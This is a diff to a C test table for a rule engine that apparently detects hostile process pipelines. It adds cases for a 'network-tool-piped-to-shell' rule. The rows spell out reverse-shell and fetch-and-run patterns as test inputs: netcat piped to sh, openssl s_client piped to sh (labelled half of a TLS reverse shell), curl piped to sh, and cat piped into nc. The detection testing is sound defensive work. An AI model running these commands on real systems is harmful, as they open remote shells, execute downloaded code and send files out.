@@ -120,7 +120,15 @@ static const struct row rows[] = {
 	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_FROM_CAT, "cat file | nc" },
 	{ "shell-piped-to-network-tool", false,
 	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_SH,
-	  "nc whose stdout (not stdin) goes to a shell: a download run, other rules" },
+	  "nc whose stdout (not stdin) goes to a shell: network-tool-piped-to-shell's" },
+
+	{ "network-tool-piped-to-shell", true,
+	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_SH, "nc | sh" },
+	{ "network-tool-piped-to-shell", true,
+	  { EXEC("/usr/bin/openssl", "openssl\ts_client\t-quiet\t-connect\t10.0.0.1:443") }, SP_PIPE_SH,
+	  "openssl s_client | sh: the two-connection TLS reverse shell's first half" },
+	{ "network-tool-piped-to-shell", false,
+	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_CAT, "nc | cat" },
 
 	{ "download-piped-to-shell", true,
 	  { EXEC("/usr/bin/curl", "curl\t-fsSL\thttp://10.0.0.1/i.sh") }, SP_PIPE_SH, "curl | sh" },
